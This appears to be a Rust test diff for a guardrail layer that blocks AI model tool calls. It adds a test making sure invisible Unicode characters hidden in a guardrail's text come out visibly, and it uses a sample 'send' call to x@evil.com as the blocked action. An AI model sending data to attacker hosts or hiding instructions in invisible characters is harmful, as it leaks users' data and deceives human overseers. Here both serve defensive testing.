@@ -62,6 +62,15 @@ fn a_blocked_call_never_reaches_the_server_and_the_model_can_read_why() {
 }
 
 #[test]
+fn a_model_reads_nothing_that_a_person_does_not_see() {
+    let hidden = "\u{fe01}\u{3164}\u{115f}\u{34f}\u{200b}\u{e0100}";
+    let mut talk = Conversation::guarded(&NO_EVIL.replace("outside", &format!("a{hidden}b")));
+    let became = talk.client(&call("1", "send", "x@evil.com"));
+    let text = failed_call(&became.only().1);
+    assert!(text.contains("guardrail `g` (a      b)"), "{text}");
+}
+
+#[test]
 fn a_blocked_call_is_an_error_where_that_is_configured() {
     let guardrails = vec![guardrail("g", NO_EVIL, GuardrailAction::Block)];
     let mut talk = Conversation::with(guardrails, |context| context.refusal = RefusalStyle::Error);
